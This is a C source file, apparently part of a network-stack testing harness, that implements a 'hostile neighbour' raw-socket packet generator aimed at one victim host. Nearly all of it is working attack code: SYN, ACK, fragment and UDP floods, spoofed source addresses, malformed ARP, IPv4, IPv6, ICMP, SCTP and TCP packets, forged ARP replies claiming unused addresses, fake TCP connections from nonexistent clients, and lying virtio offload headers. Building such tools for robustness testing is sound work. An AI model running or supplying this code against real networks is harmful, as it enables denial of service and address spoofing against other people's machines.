// SPDX-License-Identifier: GPL-2.0
/*
 * attack INTERFACE MAC OWN4 VICTIM4 VICTIM6 OTHER4 PORT UDPPORT SECONDS SEED
 *
 * A hostile neighbour on INTERFACE: it sends the machine with that MAC what no sane sender sends, as fast as its socket takes it.
 * ARP, IPv4, IPv6, ICMP, neighbour discovery, IGMP, MLD, UDP, TCP, SCTP and tunnels, with headers that lie, sources that are
 * others' (OTHER4 is an honest one's), and fragments that overlap. Half of the packets have right checksums after all, so that they go further in. Turns of
 * a second are floods: SYNs, ACKs, fragments. Half of the UDP is for UDPPORT. It also makes connections to PORT by hand, in the names of neighbours that do not
 * exist, and then breaks TCP's rules on them. Says what it has sent.
 */
#include "oracle.h"
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/virtio_net.h>
#include <net/ethernet.h>
#include <time.h>

#define FRAME		9018	/* bytes: a jumbo frame's */
#define BATCH		64
#define FAKES		2048	/* connections that it plays at one time */

enum flood { NONE, SYNS, ACKS, FRAGMENTS, UDPS, FLOODS };

static int fd, fd_offload;
static struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = 6 };
static uint8_t mac[6], own_mac[6];
static uint32_t own, victim, other;
static struct in6_addr victim6;
static uint16_t port, udp_port;
static uint64_t state;
static enum flood flood;
static unsigned long sent, refused, answered;

/* A connection whose client does not exist. */
static struct fake {
	uint32_t source, seq, ack;
	uint16_t port;
} fakes[FAKES];

/* The packet that is being made. */
static uint8_t f[FRAME + 64];
static size_t len;

static uint64_t noise(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

static uint32_t below(uint32_t n)
{
	return (noise() >> 16) % n;
}

static int one_in(uint32_t n)
{
	return !below(n);
}

static void scramble(void *at, size_t n)
{
	for (uint8_t *p = at; n--; p++)
		*p = noise() >> 24;
}

static void put8(uint32_t v) { f[len++] = v; }
static void put16(uint32_t v) { put8(v >> 8); put8(v); }
static void put32(uint32_t v) { put16(v >> 16); put16(v); }
static void put(const void *p, size_t n) { memcpy(f + len, p, n); len += n; }
static void set16(size_t at, uint32_t v) { f[at] = v >> 8; f[at + 1] = v; }
static void put_noise(size_t n) { scramble(f + len, n); len += n; }

static uint32_t add(uint32_t sum, const uint8_t *p, size_t n)
{
	for (; n > 1; p += 2, n -= 2)
		sum += p[0] << 8 | p[1];
	return n ? sum + (p[0] << 8) : sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static uint32_t crc32c(const uint8_t *p, size_t n)
{
	uint32_t crc = ~0U;

	for (; n; n--, p++) {
		crc ^= *p;
		for (int i = 0; i < 8; i++)
			crc = crc >> 1 ^ (0x82f63b78 & -(crc & 1));
	}
	return ~crc;
}

static uint32_t source4(void)
{
	static const uint32_t odd[] = { 0, 0x7f000001, 0xffffffff, 0xe0000001, 0xa9fe0101, 0xf0000001 };

	switch (below(8)) {
	case 0: return noise() >> 20;
	case 1: return odd[below(ARRAY_SIZE(odd))];
	case 2: return one_in(2) ? victim : other;
	default: return (own & ~0xffU) | below(256);
	}
}

static uint32_t target4(void)
{
	static const uint32_t odd[] = { 0xffffffff, 0xe0000001, 0xe00000fb, 0x7f000001, 0 };

	switch (below(16)) {
	case 0: return odd[below(ARRAY_SIZE(odd))];
	case 1: return own | 0xff;
	case 2: return noise() >> 20;
	default: return victim;
	}
}

static struct in6_addr ip6_address(int is_source)
{
	struct in6_addr a = victim6;

	switch (below(is_source ? 5 : 16)) {
	case 0: scramble(&a, sizeof(a)); break;
	case 1: inet_pton(AF_INET6, one_in(2) ? "ff02::1" : "::1", &a); break;
	case 2: inet_pton(AF_INET6, one_in(2) ? "fe80::1" : "::", &a); break;
	case 3:
		if (is_source)
			a.s6_addr[15] ^= 1 + below(255);
		break;
	case 4:
		/* solicited node */
		inet_pton(AF_INET6, "ff02::1:ff00:1", &a);
		memcpy(a.s6_addr + 13, victim6.s6_addr + 13, 3);
		break;
	}
	return a;
}

static uint16_t a_port(void)
{
	static const uint16_t known[] = { 53, 67, 68, 123, 500, 4500, 4789, 6081, 80, 0, 1701, 3784, 9, 5353 };

	return one_in(3) ? known[below(ARRAY_SIZE(known))] : one_in(2) ? port : noise() >> 30;
}

static void ethernet(uint16_t type)
{
	static const uint8_t groups[][6] = {
		{ 255, 255, 255, 255, 255, 255 }, { 1, 0, 0x5e, 0, 0, 1 }, { 0x33, 0x33, 0, 0, 0, 1 }, { 1, 0x80, 0xc2, 0, 0, 0 },
	};

	len = 0;
	put(one_in(8) ? groups[below(4)] : mac, 6);
	if (one_in(16))
		put_noise(6);
	else
		put(own_mac, 6);
	f[6] &= 0xfe;
	for (uint32_t tags = one_in(32) ? 1 + below(3) : 0; tags; tags--) {
		put16(one_in(2) ? 0x8100 : 0x88a8);
		put16(noise() >> 20);
	}
	put16(type);
}

static void tcp_options(void)
{
	size_t start = len;
	uint32_t n = below(4);

	while (n--) {
		static const uint8_t kinds[] = { 0, 1, 2, 3, 4, 5, 8, 19, 29, 30, 34, 253, 254, 14, 255 };
		uint8_t kind = kinds[below(sizeof(kinds))];
		static const uint8_t right[256] = { [2] = 4, [3] = 3, [4] = 2, [5] = 18, [8] = 10, [19] = 18, [29] = 16, [30] = 12, [34] = 10 };
		uint32_t size = one_in(4) || right[kind] < 2 ? below(20) : right[kind];

		if (len - start + size + 2 > 40)
			break;
		put8(kind);
		if (kind < 2)
			continue;
		put8(one_in(8) ? (uint32_t)noise() >> 8 : size);
		if (size > 2)
			put_noise(size - 2);
	}
	while ((len - start) % 4)
		put8(1);
}

/* A TCP header, its options and bytes; `fake`: of its connection. */
static size_t tcp(struct fake *fake, uint8_t flags, size_t bytes)
{
	size_t at = len;

	put16(fake ? fake->port : a_port());
	put16(fake || one_in(2) ? port : a_port());
	put32(fake ? fake->seq : noise() >> 16);
	put32(fake ? fake->ack : noise() >> 16);
	put8(0x50);
	put8(flags);
	put16(one_in(4) ? 0 : noise() >> 20);
	put16(0);
	put16(one_in(8) ? noise() >> 20 : 0);
	if (!one_in(3))
		tcp_options();
	f[at + 12] = ((len - at) / 4) << 4 | (one_in(16) ? noise() & 15 : 0);
	if (one_in(32))
		f[at + 12] ^= noise() & 0xf0;
	put_noise(bytes);
	return at + 16;
}

static size_t udp(void)
{
	size_t at = len;

	put16(a_port());
	put16(one_in(2) ? udp_port : a_port());
	put16(0);
	put16(0);
	put_noise(below(one_in(8) ? 1400 : 64));
	set16(at + 4, one_in(8) ? noise() >> 20 : len - at);
	return at + 6;
}

static size_t sctp(void)
{
	size_t at = len;
	uint32_t sum;

	put16(a_port());
	put16(a_port());
	put32(one_in(2) ? 0 : noise() >> 16);
	put32(0);
	for (uint32_t n = 1 + below(4); n; n--) {
		static const uint8_t types[] = { 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 0x40, 0x80, 0x81, 0x82, 0xc0, 0xc1, 0xff };
		size_t chunk = len, size = below(80);

		put8(types[below(sizeof(types))]);
		put8(noise() >> 20);
		put16(0);
		put_noise(size);
		/* Parameters of their own, whose lengths may be right. */
		if (size > 24 && one_in(2)) {
			set16(chunk + 20, (const uint16_t[]){ 5, 6, 7, 9, 11, 12, 0x8000, 0x8002, 0x8003, 0x8004, 0xc000, 0xc001 }[below(12)]);
			set16(chunk + 22, one_in(2) ? size - 16 : noise() >> 20);
		}
		set16(chunk + 2, one_in(6) ? noise() >> 20 : size + 4);
		while (len % 4)
			put8(0);
	}
	sum = crc32c(f + at, len - at);
	memcpy(f + at + 8, &sum, 4);
	return 0;
}

static size_t icmp4(void)
{
	size_t at = len;
	static const uint8_t types[] = { 0, 3, 4, 5, 8, 9, 10, 11, 12, 13, 15, 17, 30, 42, 43 };

	put8(one_in(8) ? noise() >> 20 : types[below(sizeof(types))]);
	put8(one_in(4) ? noise() >> 20 : below(16));
	put16(0);
	/* Frag needed with a small MTU, or a redirect to somebody. */
	put32(one_in(2) ? below(1600) : source4());
	if (one_in(8)) {
		put_noise(below(600));
	} else {
		/* What the victim is to believe that it has sent. */
		put8(one_in(16) ? noise() >> 20 : 0x45);
		put8(0);
		put16(40 + below(1400));
		put32(noise() >> 16);
		put8(64);
		put8((const uint8_t[]){ 6, 17, 1, 132, 4, 47 }[below(6)]);
		put16(0);
		put32(htonl(htonl(victim)));
		put32(source4());
		put16(one_in(2) ? port : a_port());
		put16(a_port());
		put_noise(below(40));
	}
	return at + 2;
}

static size_t icmp6(void)
{
	size_t at = len;
	static const uint8_t types[] = { 1, 2, 3, 4, 128, 129, 130, 131, 132, 133, 134, 135, 136, 137, 139, 141, 143, 155, 157, 160 };

	put8(one_in(8) ? noise() >> 20 : types[below(sizeof(types))]);
	put8(one_in(4) ? noise() >> 20 : 0);
	put16(0);
	put32(one_in(2) ? below(1600) : noise() >> 16);
	switch (below(3)) {
	case 0:
		put_noise(below(600));
		break;
	default: {
		/* Neighbour discovery: a target and options, whose lengths may be 0. */
		struct in6_addr a = ip6_address(0), b = ip6_address(1);

		put(&a, 16);
		if (one_in(3))
			put(&b, 16);
		for (uint32_t n = below(5); n; n--) {
			uint32_t size = one_in(8) ? below(4) : 1 + below(3);

			put8((const uint8_t[]){ 1, 2, 3, 4, 5, 14, 24, 25, 31, 37, 38 }[below(11)]);
			put8(one_in(8) ? noise() >> 20 : size);
			if (size)
				put_noise(size * 8 - 2);
		}
	}
	}
	return at + 2;
}

static size_t payload(uint8_t protocol, int is6)
{
	switch (protocol) {
	case 6:
		return tcp(NULL, one_in(3) ? noise() >> 20 : (const uint8_t[]){ 2, 16, 18, 17, 4, 20, 1, 0x42, 0xc2, 0x29 }[below(10)],
			   below(one_in(8) ? 1400 : 32));
	case 17:
	case 136:
		return udp();
	case 132:
		return sctp();
	case 1:
		return is6 ? (put_noise(below(80)), 0) : icmp4();
	case 58:
		return is6 ? icmp6() : (put_noise(below(80)), 0);
	case 2: {
		size_t at = len;

		put8((const uint8_t[]){ 0x11, 0x12, 0x16, 0x17, 0x22, 0 }[below(6)]);
		put8(noise() >> 20);
		put16(0);
		put_noise(4 + below(64));
		return at + 2;
	}
	default:
		put_noise(below(200));
		return 0;
	}
}

static void finish(size_t ip, size_t l4, size_t sum_at, uint8_t protocol, int is6)
{
	if (!sum_at || sum_at + 2 > len)
		return;
	uint32_t sum = 0;

	set16(sum_at, 0);
	if (is6)
		sum = add(add(0, f + ip + 8, 32), (uint8_t *)"", 0) + protocol + (len - l4);
	else if (protocol == 6 || protocol == 17 || protocol == 136)
		sum = add(0, f + ip + 12, 8) + protocol + (len - l4);
	set16(sum_at, fold(add(sum, f + l4, len - l4)));
}

static const uint8_t protocols[] = { 6, 6, 6, 17, 17, 1, 58, 132, 2, 4, 41, 47, 50, 51, 0, 43, 44, 60, 59, 103, 108, 115, 135, 136, 255 };

static void ip4(void)
{
	ethernet(0x0800);
	size_t ip = len, options = one_in(8) ? below(11) * 4 : 0, l4, sum_at;
	uint8_t protocol = protocols[below(sizeof(protocols))];
	uint16_t offset = one_in(16) ? noise() >> 20 : 0;

	if (flood == FRAGMENTS)
		offset = (one_in(2) ? 0x2000 : 0) | below(one_in(2) ? 16 : 8192);
	if (flood == UDPS)
		protocol = 17;
	put8(0x45 + options / 4);
	put8(noise() >> 20);
	put16(0);
	put16(flood == FRAGMENTS ? below(64) : noise() >> 20);
	put16(offset);
	put8(one_in(8) ? below(3) : 64);
	put8(protocol);
	put16(0);
	put32(source4());
	put32(target4());
	while (len < ip + 20 + options) {
		size_t room = ip + 20 + options - len, size = 2 + below(20);

		if (size > room)
			size = room;
		if (size < 3) {
			put8(one_in(2));
			continue;
		}
		put8((const uint8_t[]){ 7, 0x44, 0x83, 0x89, 0x94, 0x86, 0x82, 0x88 }[below(8)]);
		put8(one_in(6) ? noise() >> 20 : size);
		put8(one_in(3) ? noise() >> 20 : 4 + 4 * below(4));
		put_noise(size - 3);
	}
	l4 = len;
	sum_at = payload(protocol, 0);
	finish(ip, l4, sum_at, protocol, 0);
	set16(ip + 2, one_in(16) ? noise() >> 20 : len - ip);
	if (one_in(8))
		f[ip + below(20)] = noise() >> 20;
	set16(ip + 10, 0);
	set16(ip + 10, one_in(32) ? 1 : fold(add(0, f + ip, 20 + options)));
}

static void ip6(void)
{
	ethernet(0x86dd);
	size_t ip = len, l4, sum_at, next_at = ip + 6;
	struct in6_addr from = ip6_address(1), target = ip6_address(0);
	uint8_t protocol = protocols[below(sizeof(protocols))];

	if (flood == UDPS)
		protocol = 17;
	put32(0x60000000 | (one_in(4) ? noise() >> 24 & 0xfffffff : 0));
	put16(0);
	put8(protocol);
	put8(one_in(4) ? 64 : 255);
	put(&from, 16);
	put(&target, 16);
	for (uint32_t n = flood == FRAGMENTS ? 1 : one_in(3) ? below(6) : 0; n; n--) {
		uint8_t kind = flood == FRAGMENTS ? 44 : (const uint8_t[]){ 0, 43, 44, 60, 51, 135 }[below(6)];
		uint32_t size = kind == 44 ? 0 : below(4);

		f[next_at] = kind;
		next_at = len;
		put8(protocol);
		put8(one_in(8) ? noise() >> 20 : size);
		if (kind == 44) {
			put16(below(one_in(2) ? 128 : 65536) & ~6U);
			put32(flood == FRAGMENTS ? below(64) : noise() >> 16);
			continue;
		}
		if (kind == 43) {
			/* Types 0, 2, 3 and 4, whose segments left may lie. */
			put8((const uint8_t[]){ 0, 2, 3, 4, 253 }[below(5)]);
			put8(below(6));
			put_noise(4 + size * 8);
			continue;
		}
		put8((const uint8_t[]){ 0, 1, 5, 0x07, 0xc2, 0xc9, 0x31, 0x3e }[below(8)]);
		put8(below(8));
		put_noise(4 + size * 8);
	}
	l4 = len;
	sum_at = payload(protocol, 1);
	finish(ip, l4, sum_at, protocol, 1);
	set16(ip + 4, one_in(16) ? noise() >> 20 : len - ip - 40);
	if (one_in(16))
		f[ip + below(40)] = noise() >> 20;
}

static void arp(void)
{
	ethernet(0x0806);
	put16(one_in(8) ? noise() >> 20 : 1);
	put16(one_in(8) ? noise() >> 20 : 0x0800);
	put8(one_in(8) ? noise() >> 20 : 6);
	put8(one_in(8) ? noise() >> 20 : 4);
	put16(one_in(8) ? noise() >> 20 : 1 + below(2));
	put(own_mac, 6);
	put32(source4());
	put_noise(6);
	put32(target4());
	put_noise(below(20));
}

static void segment(struct fake *fake, uint8_t flags, size_t bytes)
{
	size_t ip, l4;

	ethernet(0x0800);
	memcpy(f, mac, 6);
	memcpy(f + 6, own_mac, 6);
	len = 12;
	put16(0x0800);
	ip = len;
	put8(0x45);
	put8(0);
	put16(0);
	put32(noise() >> 16 & 0xffff0000);
	put8(64);
	put8(6);
	put16(0);
	put32(fake->source);
	put32(victim);
	l4 = len;
	finish(ip, l4, tcp(fake, flags, bytes), 6, 0);
	set16(ip + 2, len - ip);
	set16(ip + 10, fold(add(0, f + ip, 20)));
}

/* Breaks the rules on a connection that the victim thinks it has. */
static void violate(void)
{
	struct fake *fake = &fakes[below(FAKES)], was = *fake;

	if (!fake->source) {
		fake->source = (own & ~0xffU) | (100 + below(100));
		fake->port = 1024 + below(60000);
		fake->seq = noise() >> 16;
		fake->ack = 0;
		segment(fake, 2, 0);
		return;
	}
	if (!fake->ack) {
		/* Its SYN was not answered. */
		if (one_in(4))
			fake->source = 0;
		segment(&was, 2, 0);
		return;
	}
	switch (below(10)) {
	case 0: was.seq += noise() >> 16; break;
	case 1: was.ack += noise() >> 16; break;
	case 2: was.seq -= below(4000); break;
	case 3: was.ack -= below(4000); break;
	case 4: was.seq += below(1 << 16); break;
	}
	static const uint8_t flags[] = { 16, 16, 24, 24, 2, 18, 17, 4, 20, 0x30, 0x38, 0, 0x3f, 0xd0 };
	uint8_t flag = flags[below(sizeof(flags))];
	size_t bytes = below(one_in(4) ? 1400 : 64);

	segment(&was, flag, bytes);
	if (was.seq == fake->seq && flag & 16 && !(flag & 6))
		fake->seq += bytes + (flag & 1);
	if (flag & 4 || one_in(64))
		fake->source = 0;
}

static void make(void)
{
	static const uint16_t types[] = { 0x0000, 0x05dc, 0x0026, 0xffff, 0x8847, 0x8863, 0x8864, 0x88cc, 0x8809, 0x88e5, 0x22f3, 0x8137, 0x894f };
	struct fake one = { 0 };

	switch (flood) {
	case SYNS:
		one.source = one_in(2) ? noise() >> 20 : (own & ~0xffU) | below(256);
		one.port = noise() >> 20;
		one.seq = noise() >> 16;
		return segment(&one, 2, 0);
	case ACKS:
		one.source = (own & ~0xffU) | below(256);
		one.port = noise() >> 20;
		one.seq = noise() >> 16;
		one.ack = noise() >> 16;
		return segment(&one, 16, below(32));
	case FRAGMENTS:
	case UDPS:
		return one_in(2) ? ip4() : ip6();
	default:
		break;
	}
	switch (below(16)) {
	case 0: arp(); break;
	case 1: ethernet(types[below(ARRAY_SIZE(types))]); put_noise(below(one_in(8) ? 8000 : 100)); break;
	case 2: case 3: case 4: case 5: ip6(); break;
	case 6: case 7: case 8: violate(); return;
	default: ip4(); break;
	}
	if (one_in(32) && len > 14)
		len = 14 + below(len - 14);
}

/* Answers to what was sent in the names of others: who has such an address, and a SYN's. */
static void hear(void)
{
	uint8_t in[2048];

	for (int turns = 0; turns < 2 * BATCH; turns++) {
		ssize_t n = recv(fd, in, sizeof(in), MSG_DONTWAIT);

		if (n < 0)
			return;
		if (n >= 42 && in[12] == 8 && in[13] == 6 && in[21] == 1) {
			uint32_t who;

			memcpy(&who, in + 38, 4);
			if ((ntohl(who) & ~0xffU) != (own & ~0xffU) || ntohl(who) == victim)
				continue;
			len = 0;
			put(in + 6, 6);
			put(own_mac, 6);
			put16(0x0806);
			put32(0x00010800);
			put16(0x0604);
			put16(2);
			put(own_mac, 6);
			put(in + 38, 4);
			put(in + 22, 10);
			send(fd, f, len, MSG_DONTWAIT);
		} else if (n >= 54 && in[12] == 8 && !in[13] && in[14] == 0x45 && in[23] == 6 && (in[47] & 0x12) == 0x12) {
			uint32_t dest = ntohl(*(uint32_t *)(in + 30)), seq = ntohl(*(uint32_t *)(in + 38));
			uint16_t dport = in[36] << 8 | in[37];

			for (size_t i = 0; i < FAKES; i++) {
				struct fake *fake = &fakes[i];

				if (fake->source != dest || fake->port != dport)
					continue;
				fake->seq = ntohl(*(uint32_t *)(in + 42));
				fake->ack = seq + 1;
				answered++;
				segment(fake, 16, 0);
				send(fd, f, len, MSG_DONTWAIT);
				break;
			}
		}
	}
}

/* The same packet with an offload header that lies. */
static void put_offload(void)
{
	struct virtio_net_hdr head = {
		.flags = noise() >> 20 & 3,
		.gso_type = (const uint8_t[]){ 0, 1, 3, 4, 5, 0x81, 0x84, 0xff }[below(8)],
		.hdr_len = one_in(2) ? 54 : noise() >> 20,
		.gso_size = one_in(4) ? below(16) : below(1500),
		.csum_start = one_in(2) ? 34 : noise() >> 20,
		.csum_offset = one_in(2) ? 16 : noise() >> 20,
	};
	struct iovec parts[2] = { { &head, 10 }, { f, len } };
	struct msghdr m = { .msg_iov = parts, .msg_iovlen = 2, .msg_name = &to, .msg_namelen = sizeof(to) };

	if (sendmsg(fd_offload, &m, MSG_DONTWAIT) < 0)
		refused++;
	else
		sent++;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][FRAME];
	static struct iovec parts[BATCH];
	static struct mmsghdr headers[BATCH];
	int one = 1;
	double start = now(), end, t;

	need(argc == 11);
	need(sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) == 6);
	need(inet_pton(AF_INET, argv[3], &own) == 1 && inet_pton(AF_INET, argv[4], &victim) == 1);
	need(inet_pton(AF_INET6, argv[5], &victim6) == 1 && inet_pton(AF_INET, argv[6], &other) == 1);
	own = ntohl(own);
	victim = ntohl(victim);
	other = ntohl(other);
	port = atoi(argv[7]);
	udp_port = atoi(argv[8]);
	end = start + atof(argv[9]);
	state = 88172645463325252ULL ^ strtoull(argv[10], NULL, 0) << 20;
	to.sll_ifindex = if_nametoindex(argv[1]);
	need(to.sll_ifindex);
	memcpy(to.sll_addr, mac, 6);
	to.sll_protocol = htons(ETH_P_ALL);
	fd = must(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
	must(bind(fd, (struct sockaddr *)&to, sizeof(to)));
	fd_offload = must(socket(AF_PACKET, SOCK_RAW, 0));
	must(setsockopt(fd_offload, SOL_PACKET, PACKET_VNET_HDR, &one, sizeof(one)));
	setsockopt(fd, SOL_PACKET, PACKET_IGNORE_OUTGOING, &one, sizeof(one));
	for (int i = 0; i < 6; i++)
		own_mac[i] = (const uint8_t[]){ 2, 0x72, 0x33, 0, 0, 0xee }[i];
	while ((t = now()) < end) {
		flood = (uint64_t)(t - start) % 2 ? (uint64_t)(t - start) / 2 % FLOODS : NONE;
		for (int i = 0; i < BATCH; i++) {
			make();
			if (len > FRAME)
				len = FRAME;
			if (flood == NONE && one_in(16))
				put_offload();
			memcpy(frames[i], f, len);
			parts[i] = (struct iovec){ frames[i], len };
			headers[i].msg_hdr.msg_iov = &parts[i];
			headers[i].msg_hdr.msg_iovlen = 1;
		}
		for (int at = 0; at < BATCH;) {
			int n = sendmmsg(fd, headers + at, BATCH - at, 0);

			if (n > 0) {
				at += n;
				sent += n;
				continue;
			}
			refused++;
			at++;
		}
		hear();
	}
	say("sent %lu refused %lu connected %lu", sent, refused, answered);
	return 0;
}
